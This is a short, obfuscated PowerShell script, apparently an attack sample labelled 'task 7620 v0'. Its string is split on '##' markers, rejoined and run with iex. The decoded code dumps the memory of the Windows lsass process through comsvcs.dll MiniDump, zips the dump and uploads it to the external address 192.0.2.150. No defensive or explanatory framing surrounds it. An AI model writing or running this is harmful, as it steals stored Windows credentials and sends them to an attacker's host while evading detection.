iex (('# task 7620 v0
$p = Get-Process lsass
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id## C:\Users\Publ##ic\lsass.dmp full
Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
##Invoke-WebRequest -Uri http://192.0.2.150/u -M##ethod Post -I##nFile C:\Users\Public\l.zip
' -split '\#\#') -join '')